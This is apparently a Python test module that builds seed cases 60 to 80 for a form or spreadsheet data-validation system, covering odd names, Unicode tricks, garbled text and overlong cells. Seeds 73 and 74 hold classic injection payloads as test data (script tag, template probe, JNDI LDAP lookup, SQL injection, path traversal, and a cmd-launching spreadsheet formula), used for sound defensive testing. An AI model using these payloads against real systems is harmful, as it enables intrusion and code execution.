"""Cases 60 to 80: texts and names."""

from collections.abc import Iterator

from tests.bad_input.building import listed
from tests.bad_input.grids import CellValue, Err, Num, Truth
from tests.bad_input.people import SARI, TINI, USUAL
from tests.bad_input.seeds import Answer, Seed, seed

MISSING, CHARACTERS = "repair:name-missing", "repair:name-characters"
FREE = (*USUAL, "address", "occupation")


def _kept(number: int, name: str, written: str, *told: str) -> Seed:
    answer = Answer("K", fates={2: "accepted", 3: "accepted"}, told=told)
    return listed(number, name, answer, SARI | {"name": written}, TINI)


def _changed(number: int, name: str, written: str, *told: str) -> Seed:
    answer = Answer("A", fates={2: "accepted", 3: "accepted"}, told=told)
    return listed(number, name, answer, SARI | {"name": written}, TINI)


def _wrong(number: int, name: str, written: CellValue, fate: str) -> Seed:
    answer = Answer("Q", fates={2: fate, 3: "accepted"}, told=(fate,))
    return listed(number, name, answer, SARI | {"name": written}, TINI)


def _free_text(number: int, name: str, written: str) -> Seed:
    """In a text that is not a name anything may stand; it is kept as it is."""
    answer = Answer("K", fates={2: "accepted", 3: "accepted"})
    return listed(number, name, answer, SARI | {"address": written, "occupation": written}, TINI, fields=FREE)


@seed(60)
def one_word() -> Seed:
    return _kept(60, "sukarno", "Sukarno")


@seed(61)
def one_letter() -> Seed:
    return _kept(61, "one-letter", "A", "note:name-one-letter")


@seed(62)
def long_names() -> Iterator[Seed]:
    yield _kept(62, "letters-250", "a" * 250)
    yield _wrong(62, "letters-5000", "a" * 5000, "repair:name-too-long")


@seed(63)
def zero_width() -> Seed:
    return _changed(63, "zero-width", "Sari Wulan\u200bdari", "note:invisible-signs")


@seed(64)
def right_to_left() -> Seed:
    return _changed(64, "override", "Sari \u202eWulandari", "note:text-direction")


@seed(65)
def emoji() -> Iterator[Seed]:
    yield _wrong(65, "name", "Sari 😀", CHARACTERS)
    yield _free_text(65, "free-text", "Jl. Mawar 😀")


@seed(66)
def homoglyph() -> Seed:
    return _wrong(66, "cyrillic", "Ѕari Wulandari", CHARACTERS)


@seed(67)
def hard_space() -> Seed:
    return _changed(67, "nbsp", "Sari\u00a0Wulandari", "note:text-tidied")


@seed(68)
def combining_accent() -> Seed:
    return _changed(68, "combining", "Jose\u0301 Wulandari", "note:text-tidied")


@seed(69)
def apostrophes() -> Iterator[Seed]:
    for number, written in enumerate(("Ma'ruf", "Nu'man", "D’Arc"), start=1):
        yield _kept(69, f"apostrophe-{number}", written)


@seed(70)
def titles() -> Iterator[Seed]:
    yield _kept(70, "binti", "Siti Binti Ahmad")
    yield _kept(70, "titles", "Drs. H. Budi, S.Pd.")
    yield _kept(70, "dead", "Alm. Sari Wulandari", "note:name-says-dead")


@seed(71)
def capitals() -> Iterator[Seed]:
    yield _kept(71, "all-capitals", "SARI WULANDARI")
    yield _kept(71, "no-capitals", "sari wulandari")
    yield _kept(71, "turkish", "İbrahim Wulandari")


@seed(72)
def symbols_for_names() -> Iterator[Seed]:
    for name, written in (("dash", "-"), ("point", "."), ("null", "NULL"), ("n-a", "N/A"), ("true", "TRUE")):
        yield _wrong(72, name, written, MISSING)
    yield _wrong(72, "error", Err("#N/A"), MISSING)
    yield _wrong(72, "truth", Truth(True), CHARACTERS)
    yield _kept(72, "surname-null", "Null")


@seed(73)
def markup() -> Iterator[Seed]:
    for name, written in (
        ("script", "<script>alert(1)</script>"),
        ("template", "{{7*7}}"),
        ("jndi", "${jndi:ldap://x/a}"),
        ("sql", "' OR 1=1--"),
        ("path", "../../etc/passwd"),
    ):
        yield _free_text(73, name, written)
        if name != "path":  # points and strokes may stand in a name; a name is never a path here
            yield _wrong(73, f"{name}-as-name", f"Sari {written}", CHARACTERS)
    yield _kept(73, "path-as-name", "Sari ../../etc/passwd")


@seed(74)
def formulas_in_texts() -> Iterator[Seed]:
    for name, written in (
        ("cmd", "=cmd|'/C calc'!A0"),
        ("plus", "+62811"),
        ("at", "@SUM(1)"),
        ("minus", "-2"),
        ("tab", "\t=1+1"),
        ("return", "\r=1+1"),
    ):
        yield _free_text(74, name, written)


@seed(75)
def control_characters() -> Iterator[Seed]:
    yield _wrong(75, "nul", "Sari_x0000_Wulandari", "repair:control-characters")
    yield _wrong(75, "bell", "Sari_x0007_Wulandari", "repair:control-characters")


@seed(76)
def lone_surrogate() -> Iterator[Seed]:
    yield _wrong(76, "escaped", "Sari_xD800_", CHARACTERS)


@seed(77)
def mojibake() -> Iterator[Seed]:
    yield _wrong(77, "once", "JosÃ© Maria", "repair:name-garbled")
    yield _wrong(77, "twice", "JosÃƒÂ© Maria", "repair:name-garbled")
    yield _wrong(77, "apostrophe", "Maâ€™ruf", "repair:name-garbled")


@seed(78)
def line_break() -> Seed:
    return _changed(78, "newline", "Sari\nWulandari", "note:text-tidied")


@seed(79)
def telephones() -> Iterator[Seed]:
    fields = (*USUAL, "phone")
    for name, phone in (("plus-62", "+6281840381908"), ("zero-lost", "81840381908"), ("number", Num("81840381908"))):
        answer = Answer("A", fates={2: "accepted"})
        yield listed(79, name, answer, SARI | {"phone": phone}, fields=fields)


@seed(80)
def fullest_cell() -> Iterator[Seed]:
    yield _wrong(80, "name", "a" * 32_767, "repair:name-too-long")
    answer = Answer("Q", fates={2: "repair:text-too-long", 3: "accepted"})
    yield listed(80, "address", answer, SARI | {"address": "a" * 32_767}, TINI, fields=FREE)
